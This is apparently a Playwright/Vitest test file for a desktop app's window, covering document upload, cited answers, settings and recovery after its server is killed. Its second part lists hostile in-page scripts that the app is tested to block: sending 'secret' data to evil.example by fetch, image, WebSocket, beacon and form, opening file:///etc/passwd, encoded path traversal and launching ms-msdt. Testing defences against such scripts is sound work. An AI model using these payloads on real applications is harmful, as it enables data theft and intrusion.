/** The window of the desktop, from a document to its answer, with its server killed, and with a page that has turned against its user. */
import { writeFile } from 'node:fs/promises'
import path from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { de } from '../../renderer/messages/de.ts'
import { faults, launch } from '../browser/browser.ts'
import { drop } from '../browser/drop.ts'
import { clubManual } from '../browser/manuals.ts'
import { chromiumPath } from '../chromium.ts'
import { type StartedDesktop, startDesktop } from './start-desktop.ts'
import { type OpenedWindow, openWindow } from './window.ts'

const why = chromiumPath ? '' : ' (skipped: no Chromium here; CHROMIUM may name one)'
if (!chromiumPath && process.env.CI === 'true') throw new Error('CI has no Chromium for the test of the window')

describe.skipIf(!chromiumPath)(`the window of the desktop${why}`, () => {
  const manual = clubManual()
  let browser: Browser
  let desktop: StartedDesktop
  let window: OpenedWindow

  beforeAll(async () => {
    desktop = await startDesktop()
    desktop.server.start()
    desktop.server.follow(server => window?.router.tellAll({ type: 'server', server }))
    browser = await launch()
    window = await openWindow(browser, desktop)
    await window.page.getByText(de.ask.empty).waitFor()
  })
  afterAll(async () => {
    await browser?.close()
    await window?.close()
    await desktop?.remove()
  })

  const row = (name: string) => window.page.locator('[data-document]', { hasText: name })
  const ask = async (question: string) => {
    await window.page.locator('[data-main-field]').fill(question)
    await window.page.keyboard.press('Enter')
  }

  it('takes what is dropped on it, and answers from it with a citation', async () => {
    const { page } = window
    await page.getByRole('link', { name: de.nav.library }).first().click()
    await drop(page, manual.file, manual.bytes)
    await row(manual.file).and(page.locator('[data-state=ready]')).waitFor()
    await expect.poll(() => window.called).toEqual(['tellUploads 1', 'tellUploads 0'])
    await page.getByRole('link', { name: de.nav.ask }).click()
    await ask(manual.question)
    await page.locator('blockquote', { hasText: manual.sentence }).waitFor()
    await page.locator('[data-citation="1"]').click()
    await page.locator(`[data-rendered="${manual.page}"]`).waitFor()
  })

  it('takes what the system hands over, and goes where a link into it leads', async () => {
    const { page, handed, router, id } = window
    const file = path.join(desktop.folder, 'Frist.txt')
    await writeFile(file, 'Die Frist für den Einspruch beträgt drei Wochen.\n')
    for await (const files of handed.offer([file])) router.tell(id, { type: 'files', files })
    router.tell(id, { type: 'go', hash: '#/?q=Wie+lange%3F' })
    // To be read, and sent by whoever did.
    await expect.poll(() => window.page.locator('[data-main-field]').inputValue()).toBe('Wie lange?')
    router.tell(id, { type: 'go', hash: '#/library' })
    await row('Frist.txt').and(page.locator('[data-state=ready]')).waitFor()
  })

  it('saves where the user says, and sends links out after a question', async () => {
    const { page, questions, opened, refused } = window
    await page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<a id=out href="https://münchen.example/a">a</a>')
      document.getElementById('out')?.click()
    })
    await expect.poll(() => opened).toEqual(['https://xn--mnchen-3ya.example/a'])
    expect(questions).toEqual(['xn--mnchen-3ya.example'])
    await page.evaluate(() => document.getElementById('out')?.remove())
    const [saved] = await Promise.all([
      page.waitForEvent('download'),
      // As on the page of the ledger, once there is something in it.
      page.evaluate(() => {
        const link = Object.assign(document.createElement('a'), {
          href: '/api/v1/ledger/export?format=csv',
          download: '',
        })
        link.click()
      }),
    ])
    expect(await saved.failure()).toBeNull()
    expect(saved.suggestedFilename()).toMatch(/\.csv$/)
    expect(refused).toEqual([])
  })

  it('asks once about updates, and has settings of its own', async () => {
    const { page, called } = window
    await page.getByRole('button', { name: de.desktop.updates.no, exact: true }).click()
    await page.getByText(de.desktop.updates.askShort).waitFor({ state: 'detached' })
    expect(called).toContain('chooseUpdate off')
    window.router.tell(window.id, { type: 'go', hash: '#/settings' })
    const tray = page.getByLabel(de.desktop.tray)
    await tray.uncheck()
    await expect.poll(() => tray.isChecked()).toBe(false)
    const keys = page.getByLabel(de.desktop.keys)
    await expect.poll(() => keys.inputValue()).toBe(de.desktop.keysNone)
    await keys.press('Control+Shift+Space')
    await expect.poll(() => keys.inputValue()).toBe('Strg + Umschalt + Leertaste')
    await page.getByText(de.desktop.updates.off).waitFor()
    expect(await page.getByText(de.settings.signOut).count()).toBe(0)
    expect(await faults(page)).toEqual([])
  })

  it('has a small window, for a question and its answer', async () => {
    const quick = await openWindow(browser, desktop, { quick: true })
    const { page, called, complaints } = quick
    await page.locator('[data-main-field]').fill(manual.question)
    await page.keyboard.press('Enter')
    await page.locator('blockquote', { hasText: manual.sentence }).waitFor()
    expect(await page.getByRole('navigation').count()).toBe(0)
    expect(await faults(page)).toEqual([])
    await page.getByRole('button', { name: de.desktop.openLarge }).click()
    await expect.poll(() => called).toEqual(['openChat'])
    await page.keyboard.press('Escape')
    await expect.poll(() => called).toEqual(['openChat', 'hideQuick'])
    expect(complaints).toEqual([])
    await quick.close()
  })

  it('says why its server does not start, and has it started', async () => {
    const { page, router, called } = window
    router.tellAll({ type: 'server', server: { name: 'failed', reason: { code: 'disk-full' } } })
    const notice = page.getByRole('alert').filter({ hasText: de.desktop.failed.split('{{')[0] ?? '' })
    await expect.poll(() => notice.innerText()).toContain(de.error['disk-full'])
    await notice.getByRole('button', { name: de.app.retry }).click()
    await expect.poll(() => called).toContain('startServer')
    router.tellAll({ type: 'server', server: desktop.server.state() })
    await notice.waitFor({ state: 'detached' })
  })

  it('goes on by itself when its server is killed, and has lost nothing', async () => {
    const { page, complaints } = window
    for (const round of [1, 2]) {
      const killed = desktop.server.pid
      process.kill(killed ?? 0, 'SIGKILL')
      // Asked of a server that is no more, or not yet.
      await page.getByRole('link', { name: de.nav.ask }).click()
      await ask(`Wie lang ist die Frist für den Einspruch? (${round})`)
      await page.locator('blockquote', { hasText: 'drei Wochen' }).waitFor()
      expect(desktop.server.pid).not.toBe(killed)
      await page.getByRole('link', { name: de.nav.library }).first().click()
      await row(manual.file).and(page.locator('[data-state=ready]')).waitFor()
      await row('Frist.txt').and(page.locator('[data-state=ready]')).waitFor()
    }
    // The stream of events has come back as well: what is added is seen.
    await drop(page, 'Danach.txt', new TextEncoder().encode('Danach ging es weiter.'))
    await row('Danach.txt').and(page.locator('[data-state=ready]')).waitFor()
    expect(await page.getByText(de.desktop.starting).count()).toBe(0)
    expect(complaints).toEqual([])
  })
})

const evil = 'http://evil.example/'

/** What a page may try whose words have been put there by somebody else; and who stands in its way: our guard, our policy, or Chromium itself. */
const attempts: readonly [name: string, script: string, by: string | RegExp][] = [
  ['a script as an address', `location.href = 'javascript:void(document.title = "evil")'`, /^policy script-src/],
  ['a page as an address', `location.href = 'data:text/html,<h1>evil'`, /^Not allowed to navigate/],
  ['a file', `location.href = 'file:///etc/passwd'`, /^Not allowed to load/],
  ['another site', `location.href = '${evil}'`, 'navigation'],
  ['another site, instead of this one', `location.replace('https://evil.example/')`, 'navigation'],
  [
    'a page of its own making',
    `location.href = URL.createObjectURL(new Blob(['<h1>evil'], { type: 'text/html' }))`,
    'navigation',
  ],
  ['another host of the scheme', `location.href = 'app://other/'`, 'navigation'],
  ['a file of the bundle', `location.href = '/icon.svg'`, 'navigation'],
  ['a path out of the bundle', `location.href = '/../../etc/passwd'`, 'navigation'],
  ['such a path in disguise', `location.href = '/..%2f..%2fetc%2fpasswd'`, 'navigation'],
  ['a program of the system', `location.href = 'ms-msdt:/id'`, 'navigation'],
  ['another window', `open('${evil}')`, /refused a window.*http:/],
  ['an empty window', `open('about:blank')`, /refused a window.*about:/],
  ['a link into another window', click(`<a target=_blank href="file:///etc/passwd">a</a>`), /refused a window.*file:/],
  ['a link that runs a script', click(`<a href="javascript:document.title='evil'">a</a>`), /^policy script-src/],
  [
    'a form that is sent elsewhere',
    `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action="${evil}"><input name=a value=secret></form>'); f.submit()`,
    /^policy form-action|^navigation/,
  ],
  [
    'a page that sends itself elsewhere',
    `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${evil}'; document.head.append(meta)`,
    'navigation',
  ],
  ['another base', click(`<base href="${evil}"><a href="a">a</a>`), /^policy base-uri/],
  ['a frame', insert(`<iframe src="${evil}"></iframe>`), /^policy frame-src/],
  ['a plug-in', insert(`<object data="${evil}"></object>`), /^policy object-src/],
  ['a script within the page', insertScript(`document.title = 'evil'`), /^policy script-src/],
  ['a handler within the page', insert(`<img src=x onerror="document.title='evil'">`), /^policy script-src-attr/],
  ['a script that is text', `setTimeout("document.title = 'evil'")`, /^policy script-src/],
  ['what it read, by a request', `fetch('${evil}?secret').catch(() => {})`, /^policy connect-src/],
  ['what it read, by a picture', insert(`<img src="${evil}?secret">`), /^policy img-src/],
  ['what it read, by a socket', `try { new WebSocket('ws://evil.example/') } catch {}`, /^policy connect-src/],
  ['what it read, by a beacon', `navigator.sendBeacon('${evil}', 'secret')`, /^policy connect-src/],
]

/** Each is rejected, or answers what stands here. */
const demands: readonly [name: string, script: string][] = [
  ['the camera', 'navigator.mediaDevices.getUserMedia({ video: true })'],
  ['the microphone', 'navigator.mediaDevices.getUserMedia({ audio: true })'],
  ['the place', 'new Promise((found, refused) => navigator.geolocation.getCurrentPosition(found, refused))'],
  [
    'notifications',
    `Notification.requestPermission().then(given => given === 'granted' || Promise.reject(new Error(given)))`,
  ],
  ['instruments', 'navigator.requestMIDIAccess({ sysex: true })'],
  ['what is on the clipboard', 'navigator.clipboard.readText()'],
  ['a file of the system', 'showOpenFilePicker()'],
]

describe.skipIf(!chromiumPath)(`a page that has turned against its user${why}`, () => {
  let browser: Browser
  let desktop: StartedDesktop
  let window: OpenedWindow

  beforeAll(async () => {
    desktop = await startDesktop()
    desktop.server.start()
    browser = await launch()
    window = await openWindow(browser, desktop)
    await window.page.getByText(de.ask.empty).waitFor()
    await window.page.evaluate('globalThis.isHere = true')
  })
  afterAll(async () => {
    await browser?.close()
    await window?.close()
    await desktop?.remove()
  })

  /** Still the same document, in the one window, and nothing in it that was not. */
  async function expectUnharmed(): Promise<void> {
    const { page } = window
    expect(await page.evaluate('globalThis.isHere === true')).toBe(true)
    expect(page.context().pages()).toHaveLength(1)
    expect(await page.title()).not.toBe('evil')
    for (const frame of page.frames().slice(1)) expect(frame.url()).not.toContain('evil.example')
  }

  it.each(attempts)('does not get to %s', async (_, script, by) => {
    window.refused.length = 0
    window.complaints.length = 0
    await window.page.evaluate(`(() => { ${script} })()`).catch(() => {})
    await expect
      .poll(() => [...window.refused, ...window.complaints])
      .toEqual(expect.arrayContaining([typeof by === 'string' ? by : expect.stringMatching(by)]))
    await expectUnharmed()
  })

  it.each(demands)('is not given %s', async (_, script) => {
    const given = await window.page.evaluate(
      `Promise.resolve().then(() => ${script}).then(() => 'given', () => 'refused')`,
    )
    expect(given).toBe('refused')
    await expectUnharmed()
  })

  it('may put text on the clipboard, and load itself anew', async () => {
    const { page } = window
    expect(await page.evaluate(`navigator.clipboard.writeText('a').then(() => 'given', String)`)).toBe('given')
    await page.evaluate('location.reload()')
    await expect.poll(() => page.evaluate('globalThis.isHere === undefined').catch(() => false)).toBe(true)
    await page.getByText(de.ask.empty).waitFor()
  })

  it('reads no file beside those of the bundle, and nothing of the server without a word of its origin', async () => {
    const statuses = await window.page.evaluate(
      `Promise.all(['/..%2fpackage.json', '/%2e%2e/package.json', '/assets/..%5c..%5cpackage.json', '/package.json', '/docs', '/handed/..%2fa']
        .map(at => fetch(at).then(({ status }) => status)))`,
    )
    expect(statuses).toEqual([404, 404, 404, 404, 404, 404])
  })
})

function insert(html: string): string {
  return `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)})`
}

function insertScript(text: string): string {
  return `const made = document.createElement('script'); made.textContent = ${JSON.stringify(text)}; document.body.append(made)`
}

function click(html: string): string {
  return `const place = document.createElement('div'); place.innerHTML = ${JSON.stringify(html)}; document.body.append(place); place.querySelector('a').click()`
}
